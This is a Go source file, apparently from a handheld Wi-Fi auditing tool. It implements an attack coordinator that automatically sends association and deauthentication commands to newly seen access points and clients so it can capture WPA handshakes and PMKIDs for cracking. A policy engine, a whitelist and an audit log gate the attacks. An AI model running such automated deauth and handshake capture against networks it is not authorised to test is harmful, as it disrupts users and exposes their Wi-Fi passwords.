// Package attack implements the attack coordinator: event-driven
// reactions to newly discovered APs, newly associated stations, and
// captured handshakes. It is stateless over the topology store and
// stateful only in its UI hold timer and two bounded "already-seen"
// sets. Commands go out as single strings through the bus client's
// command sink; frame injection is the capture engine's job.
package attack

import (
	"context"
	"fmt"
	"log/slog"
	"sync"
	"time"

	"github.com/google/uuid"

	"github.com/corvidlabs/corvid/internal/audit"
	"github.com/corvidlabs/corvid/internal/core/domain"
	"github.com/corvidlabs/corvid/internal/telemetry"
)

const (
	maxSeenAPs        = 512
	maxSeenHandshakes = 256

	uiHoldMs         = 3000
	uploadWatchdogMs = 25000
)

// CommandSender is the narrow bus-client handle used to dispatch
// commands, matching busclient.CommandSender without importing
// busclient (breaks the coordinator<->bus-client import cycle).
type CommandSender interface {
	SendCommand(cmd string) error
}

// APLookup is the narrow topology read used to check whether a
// station's AP is currently tracked.
type APLookup interface {
	FindAPByBSSID(bssid domain.MAC) (domain.AccessPoint, bool)
}

// PolicyEngine is the external collaborator that decides whether an
// SSID is exempt from automatic attack. A nil PolicyEngine disables
// all automatic command dispatch: attacks only fire once a policy
// engine is attached.
type PolicyEngine interface {
	IsWhitelisted(ssid string) bool
}

// CaptureChecker reports whether a BSSID already has a crackable
// capture on disk, consulted before dispatching a fresh assoc/deauth
// so already-cracked networks are left alone.
type CaptureChecker interface {
	HasCapture(bssid domain.MAC) bool
}

// UIHooks are the callbacks the coordinator uses to mutate UI state.
// The framebuffer owner supplies the locked implementations; any nil
// hook is simply skipped.
type UIHooks struct {
	SetStatus      func(status string)
	SetFace        func(face domain.FaceEnum)
	SetAPSCount    func(n int)
	StartAnimation func(kind domain.AnimationKind, intervalMs int64)
	ExtendHold     func(durationMs int64)
}

// HandshakeEvent carries the fields of a dispatched handshake
// notification, mirroring busclient.HandshakeEventData without
// importing busclient.
type HandshakeEvent struct {
	AP      string
	Station string
	SSID    string
	File    string
	PMKID   bool
	Full    bool
}

// Coordinator reacts to topology events and issues wifi.assoc /
// wifi.deauth commands through a CommandSender.
type Coordinator struct {
	sender  CommandSender
	aps     APLookup
	auditDB *audit.Store
	policy  PolicyEngine
	capture CaptureChecker
	ui      UIHooks
	rescan  func()

	mu             sync.Mutex
	seenAPs        *boundedSet
	seenHandshakes *boundedSet
	lifetimeAPs    int
}

// New constructs a Coordinator. auditDB, policy, capture, and rescan
// may be nil; each nil collaborator degrades its corresponding
// behavior (no audit trail, no automatic dispatch, no capture
// suppression, no rescan trigger) without panicking.
func New(sender CommandSender, aps APLookup, auditDB *audit.Store, policy PolicyEngine, capture CaptureChecker, ui UIHooks, rescan func()) *Coordinator {
	return &Coordinator{
		sender:         sender,
		aps:            aps,
		auditDB:        auditDB,
		policy:         policy,
		capture:        capture,
		ui:             ui,
		rescan:         rescan,
		seenAPs:        newBoundedSet(maxSeenAPs),
		seenHandshakes: newBoundedSet(maxSeenHandshakes),
	}
}

// LifetimeAPs reports the number of distinct APs ever observed as
// genuinely new, across the coordinator's lifetime.
func (c *Coordinator) LifetimeAPs() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.lifetimeAPs
}

// OnAPNew handles a wifi.ap.new event. apCount is the topology store's
// current AP count, used to refresh the UI's APS widget.
func (c *Coordinator) OnAPNew(ap domain.AccessPoint, apCount int) {
	c.mu.Lock()
	firstSight := !c.seenAPs.contains(ap.BSSID)
	if firstSight {
		c.seenAPs.add(ap.BSSID)
		c.lifetimeAPs++
	}
	c.mu.Unlock()

	if !firstSight {
		return
	}

	c.setStatus(fmt.Sprintf("New network: %s!", displaySSID(ap.SSID)))
	c.setAPSCount(apCount)

	if !c.shouldAttack(ap.BSSID, ap.SSID) {
		return
	}

	cmd := fmt.Sprintf("wifi.assoc %s", ap.BSSID.String())
	c.dispatch("assoc", ap.BSSID.String(), cmd)
	c.extendHold()
}

// OnClientNew handles a wifi.client.new event for an associated
// station.
func (c *Coordinator) OnClientNew(sta domain.Station) {
	if !sta.Associated || sta.APBSSID.IsZero() {
		return
	}
	if c.aps != nil {
		if _, tracked := c.aps.FindAPByBSSID(sta.APBSSID); !tracked {
			return
		}
	}

	ap, _ := c.lookupAP(sta.APBSSID)
	if !c.shouldAttack(sta.APBSSID, ap.SSID) {
		return
	}

	cmd := fmt.Sprintf("wifi.deauth %s", sta.MAC.String())
	c.dispatch("deauth", sta.MAC.String(), cmd)
	c.extendHold()
}

// OnHandshake handles a wifi.client.handshake event.
func (c *Coordinator) OnHandshake(ev HandshakeEvent) {
	mac, err := domain.ParseMAC(ev.AP)
	isNew := true
	if err == nil {
		c.mu.Lock()
		isNew = !c.seenHandshakes.contains(mac)
		if isNew {
			c.seenHandshakes.add(mac)
		}
		c.mu.Unlock()
	}

	if isNew {
		c.setStatus(fmt.Sprintf("Handshake captured: %s", displaySSID(ev.SSID)))
		c.setFace(domain.FaceHappy)
		c.startAnimation(domain.AnimDownload, 250)
	}

	if c.rescan != nil {
		c.rescan()
	}
}

// UploadWatchdog reports whether a stuck upload animation should be
// force-stopped: an UPLOAD sequence still armed 25s past the hold
// deadline. Called once per main-loop iteration; it is the caller's
// job to clear the hold and apply the mood reset through the normal
// UI hooks, or the watchdog would refire every tick.
func UploadWatchdog(kind domain.AnimationKind, holdUntilMs, nowMs int64) bool {
	return kind == domain.AnimUpload && holdUntilMs > 0 && nowMs >= holdUntilMs+uploadWatchdogMs
}

func (c *Coordinator) lookupAP(bssid domain.MAC) (domain.AccessPoint, bool) {
	if c.aps == nil {
		return domain.AccessPoint{}, false
	}
	return c.aps.FindAPByBSSID(bssid)
}

// shouldAttack gates automatic dispatch: a policy engine must be
// attached, the BSSID must have no crackable capture on disk, and the
// SSID must not be whitelisted.
func (c *Coordinator) shouldAttack(bssid domain.MAC, ssid string) bool {
	if c.policy == nil {
		return false
	}
	if c.capture != nil && c.capture.HasCapture(bssid) {
		return false
	}
	return !c.policy.IsWhitelisted(ssid)
}

func (c *Coordinator) dispatch(kind, target, cmd string) {
	correlationID := uuid.New().String()
	outcome := "sent"
	if err := c.sender.SendCommand(cmd); err != nil {
		outcome = "failed"
		slog.Warn("attack: command dispatch failed", "kind", kind, "target", target, "correlation_id", correlationID, "error", err)
	}
	telemetry.CommandsSent.WithLabelValues(outcome).Inc()
	c.logAudit(kind, target, outcome, cmd)
}

// logAudit appends the entry on its own goroutine so a slow disk write
// never blocks command dispatch.
func (c *Coordinator) logAudit(kind, target, outcome, detail string) {
	if c.auditDB == nil {
		return
	}
	entry := domain.AttackLogEntry{
		Timestamp: time.Now(),
		Kind:      kind,
		Target:    target,
		Outcome:   outcome,
		Detail:    detail,
	}
	go func() {
		if err := c.auditDB.Append(context.Background(), entry); err != nil {
			slog.Warn("attack: audit append failed", "error", err)
		}
	}()
}

func (c *Coordinator) setStatus(s string) {
	if c.ui.SetStatus != nil {
		c.ui.SetStatus(s)
	}
}

func (c *Coordinator) setFace(face domain.FaceEnum) {
	if c.ui.SetFace != nil {
		c.ui.SetFace(face)
	}
}

func (c *Coordinator) setAPSCount(n int) {
	if c.ui.SetAPSCount != nil {
		c.ui.SetAPSCount(n)
	}
}

func (c *Coordinator) startAnimation(kind domain.AnimationKind, intervalMs int64) {
	if c.ui.StartAnimation != nil {
		c.ui.StartAnimation(kind, intervalMs)
	}
}

func (c *Coordinator) extendHold() {
	if c.ui.ExtendHold != nil {
		c.ui.ExtendHold(uiHoldMs)
	}
}

func displaySSID(ssid string) string {
	if ssid == "" {
		return "<hidden>"
	}
	return ssid
}
